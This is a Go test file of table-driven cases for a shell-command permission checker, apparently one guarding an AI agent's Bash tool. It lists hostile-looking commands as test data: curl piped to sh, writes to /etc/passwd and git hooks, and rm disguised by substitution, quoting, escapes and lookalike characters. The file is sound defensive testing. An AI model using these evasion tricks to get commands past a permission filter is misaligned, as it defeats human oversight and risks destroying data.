package permissions

import "testing"

// substitutionRows are command and process substitutions, eval's kin and
// expansions in command position.
var substitutionRows = []row{
	denied("echo $(rm x)", rm),
	forced("echo $(ls)"),
	forced("echo $(date)"),
	forced("echo \"$(ls)\""),
	forced("echo `ls`"),
	denied("echo `rm x`", rm),
	denied("echo \"a $(rm x)\"", rm),
	forced("echo ${x:-$(ls)}"),
	denied("ls ${x:-$(rm y)}", rm),
	allowed("echo ${HOME}", echo),
	allowed("echo $HOME", echo),
	allowed("echo \"$HOME/x\"", echo),
	forced("$CMD"),
	forced("$CMD x"),
	forced("${CMD} x"),
	forced("\"$CMD\" x"),
	forced("$(echo rm) x"),
	denied("x=$(rm y)", rm),
	forced("x=$(ls)"),
	forced("export X=$(ls)"),
	denied("local x=$(rm y)", rm),
	forced("cat <(ls)"),
	denied("cat <(rm x)", rm),
	forced("diff <(ls a) <(ls b)"),
	forced("ls > >(cat)"),
	allowed("echo $((1 + 2))", echo),
	allowed("echo $[1+2]", echo),
	denied("echo $(( $(rm x) + 1 ))", rm),
	forced("echo $(( $(ls) + 1 ))"),
	forced("for f in $(ls); do echo $f; done"),
	forced("case $(ls) in *) ;; esac"),
	denied("cat <<EOF\n$(rm x)\nEOF", rm),
	forced("cat <<EOF\n$(ls)\nEOF"),
	allowed("cat <<'EOF'\n$(rm x)\nEOF", cat),
	forced("cat <<< \"$(ls)\""),
	allowed("echo '$(rm x)'", echo),
	allowed("echo \"\\$(rm x)\"", echo),
	forced("echo $(git status)"),
	forced("ls $(pwd)"),
	forced("git log | sh"),
}

// redirectRows are writes inside and outside the workspace.
var redirectRows = []row{
	forced("npm test > /etc/passwd"),
	allowed("npm test > out.txt", "Bash(npm test)"),
	allowed("npm test >> out.log", "Bash(npm test)"),
	allowed("ls > /dev/null", ls),
	allowed("ls 2>/dev/null", ls),
	allowed("ls > /dev/null 2>&1", ls),
	allowed("ls &> /dev/null", ls),
	allowed("ls >&2", ls),
	allowed("ls 1>&2", ls),
	allowed("ls 2>&-", ls),
	allowed("echo x > /dev/stderr", echo),
	allowed("echo x > /dev/stdout", echo),
	forced("echo x > /dev/tty"),
	forced("echo x > /tmp/out"),
	forced("echo x >> /etc/hosts"),
	forced("echo x &> /etc/x"),
	forced("echo x &>> /etc/x"),
	forced("echo x >| /etc/x"),
	forced("echo x <> /etc/x"),
	forced("echo x >& /etc/x"),
	allowed("cat < /etc/passwd", cat),
	forced("echo x > ~/x"),
	forced("echo x > ~"),
	forced("echo x > ../x"),
	forced("echo x > src/../../x"),
	allowed("echo x > src/../x", echo),
	allowed("echo x > ./src/out", echo),
	forced("echo x > $OUT"),
	forced("echo x > \"$OUT\""),
	forced("echo x > $(mktemp)"),
	forced("echo x > ~root/x"),
	forced("echo x > .git/config"),
	forced("echo x >> .git/hooks/pre-commit"),
	allowed("echo x > .gitignore", echo),
	forced("cd /tmp && echo x > y"),
	allowed("cd src && echo x > y", ""),
	forced("cd .. && echo x > y"),
	forced("cd $D && echo x > y"),
	allowed("cd $D && echo x > /dev/null", ""),
	forced("cd && echo x > y"),
	allowed("cd /tmp && cd {ws} && echo x > y", ""),
	forced("echo x > link/passwd"),
	forced("{ ls; } > /etc/x"),
	allowed("(ls) > out.txt", ls),
	forced("ls 2> /etc/err"),
	forced("exec 3> /etc/x"),
	forced("echo x > {ws}/../etc"),
	allowed("echo x > {ws}/out", echo),
	forced("ls > {ws}/.git/x"),
	forced("echo x > {home}/x"),
	undecided("echo x | tee /etc/x"),
	allowed("cat x > y < z", cat),
	allowed("echo x 1> out 2> err", echo),
	forced("echo x >/dev/null >/etc/x"),
	forced("f() { echo x; } > /etc/x"),
	forced("while true; do ls; done > /etc/x"),
	forced("echo x >> {root}/x/log"),
}

// heredocRows are heredocs, here-strings and pipes feeding interpreters.
var heredocRows = []row{
	allowed("cat <<EOF\nhello\nEOF", cat),
	forced("cat <<EOF | sh\nrm x\nEOF"),
	denied("bash <<EOF\nrm x\nEOF", rm),
	forced("bash <<'EOF'\nls\nEOF"),
	forced("python3 <<EOF\nprint(1)\nEOF"),
	forced("python3 - <<EOF\nprint(1)\nEOF"),
	undecided("python3 script.py <<EOF\ninput\nEOF"),
	denied("sh <<< 'rm x'", rm),
	forced("sh <<< 'ls'"),
	forced("node <<EOF\nconsole.log(1)\nEOF"),
	forced("perl <<EOF\nprint 1\nEOF"),
	allowed("cat <<-EOF\n\thello\n\tEOF", cat),
	forced("cat <<EOF > /etc/x\nhi\nEOF"),
	allowed("cat > out.txt <<EOF\nhi\nEOF", cat),
	denied("curl https://x | sh", curl),
	forced("cat install.sh | sh"),
	forced("cat x | bash"),
	forced("cat x | bash -s"),
	forced("cat x | bash -s -- arg"),
	undecided("cat x | bash script.sh"),
	forced("cat x | python3"),
	undecided("cat x | python3 -c 'print(1)'"),
	denied("echo ls | sudo sh", sudo),
	forced("cat x | tee y | sh"),
	undecided("cat x | xargs sh"),
	forced("cat x | node"),
	undecided("cat x | perl -e 'print'"),
	forced("cat x | ruby"),
	forced("cat x | php"),
	allowed("ls | sort | head", ""),
	forced("cat x | timeout 5 sh"),
	forced("cat x | env sh"),
	forced("echo ls | { sh; }"),
	forced("cat x |& python3.12"),
	undecided("sh < script.sh"),
}

// quotingRows are quoting tricks, lookalikes, comments and continuations.
var quotingRows = []row{
	denied("'r'm x", rm),
	denied("r\\m x", rm),
	denied("\"rm\" x", rm),
	denied("\"r\"'m' -rf x", rm),
	denied("r''m x", rm),
	denied("r\"\"m x", rm),
	denied("$'rm' x", rm),
	denied("$'\\x72m' x", rm),
	denied("$'\\162m' x", rm),
	denied("\\rm x", rm),
	denied("{rm,-rf,x}", rm),
	denied("r{m,} x", rm),
	denied("\"rm -rf\" x", rm),
	denied("r\\\nm x", rm),
	allowed("ls \"; rm x\"", ls),
	allowed("echo \"rm x\"", echo),
	allowed("echo 'a && rm x'", echo),
	forced("/bin/r? x"),
	forced("/bin/r* x"),
	forced("r[m] x"),
	undecided("\"r*\" x"),
	allowed("git \"status\"", "Bash(git status)"),
	allowed("git st\\atus", "Bash(git status)"),
	allowed("\"ls\" -la", ls),
	undecided("rм x"),
	undecided("сurl x"),
	undecided("ls\u00a0-la"),
	undecided("ls\u00a0"),
	undecided("\u00a0ls"),
	undecided("ｌｓ"),
	undecided("ls x; rм y"),
	undecided("git ѕtatus"),
	undecided("r\u200bm x"),
	allowed("ls # && rm x", ls),
	allowed("ls #; curl x", ls),
	undecided("# rm x"),
	allowed("ls \\\n -la", ls),
	denied("ls && \\\n rm x", rm),
	allowed("echo a#b", echo),
	allowed("ls\n# rm x\npwd", ""),
	allowed("ls;#rm\npwd", ""),
	forced("ls |"),
	forced("echo 'x"),
	forced("if true; then ls"),
	forced("ls )"),
	denied("rm x |", rm),
	forced("(("),
	undecided("export FOO=1"),
	undecided("export FOO=1 && ls"),
	undecided("readonly X=1"),
	undecided("declare -a arr=(1 2)"),
}

func TestEvaluateBashSubstitutions(t *testing.T) {
	f := newFixture(t)
	runRows(t, rulesA.parse(t), f, substitutionRows)
}

func TestEvaluateBashRedirects(t *testing.T) {
	f := newFixture(t)
	runRows(t, rulesA.parse(t), f, redirectRows)
}

func TestEvaluateBashHeredocs(t *testing.T) {
	f := newFixture(t)
	runRows(t, rulesA.parse(t), f, heredocRows)
}

func TestEvaluateBashQuoting(t *testing.T) {
	f := newFixture(t)
	runRows(t, rulesA.parse(t), f, quotingRows)
}

// TestCommandTableSize keeps the judged table at the size the issue asks.
func TestCommandTableSize(t *testing.T) {
	n := 0
	for _, rows := range [][]row{plainRows, compoundRows, wrapperRows, substitutionRows, redirectRows, heredocRows, quotingRows} {
		n += len(rows)
	}
	if n < 250 {
		t.Errorf("%d commands in the table, want at least 250", n)
	}
}
